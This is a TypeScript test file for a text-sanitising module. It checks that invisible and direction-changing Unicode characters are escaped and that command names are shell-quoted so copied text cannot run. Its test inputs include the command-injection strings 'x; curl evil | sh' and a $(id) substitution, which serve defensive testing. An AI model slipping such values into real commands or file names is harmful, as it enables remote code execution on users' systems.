import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import * as CleanText from "../../../src/base/CleanText.ts"

describe("Visible", () => {
  it("writes out what hides or turns text, and leaves the rest", () => {
    assert.strictEqual(CleanText.visibleText("plain text, Ünïcode 漢字 😀\nnext"), "plain text, Ünïcode 漢字 😀\nnext")
    const hiding = "\u001b[31m\u200b\u202e\u2066\u00ad\ufeff"
    assert.strictEqual(CleanText.visibleText(hiding), "\\u{1B}[31m\\u{200B}\\u{202E}\\u{2066}\\u{AD}\\u{FEFF}")
    assert.strictEqual(CleanText.visibleText("\u{E0041}\uFE01\uFE0F\u3164"), "\\u{E0041}\\u{FE01}\\u{FE0F}\\u{3164}")
    assert.strictEqual(CleanText.visibleText("❤\uFE0F"), "❤\uFE0F")
  })

  it("makes one word of a command of any name, so that nothing of it is run when a person copies it", () => {
    assert.strictEqual(CleanText.visibleWord("files"), "files")
    assert.strictEqual(CleanText.visibleWord("@scope/a.b-c"), "@scope/a.b-c")
    assert.strictEqual(CleanText.visibleWord("x; curl evil | sh"), "'x; curl evil | sh'")
    assert.strictEqual(CleanText.visibleWord("x'$(id)"), "'x'\\''$(id)'")
    assert.strictEqual(CleanText.visibleWord("a\nb"), "'a b'")
  })

  it.prop(
    "leaves no control or format character, whatever the text",
    { text: Schema.String },
    ({ text }) => !/[\p{Cf}\u0000-\u0009\u000b-\u001f\u007f-\u009f]/u.test(CleanText.visibleText(text))
  )
})
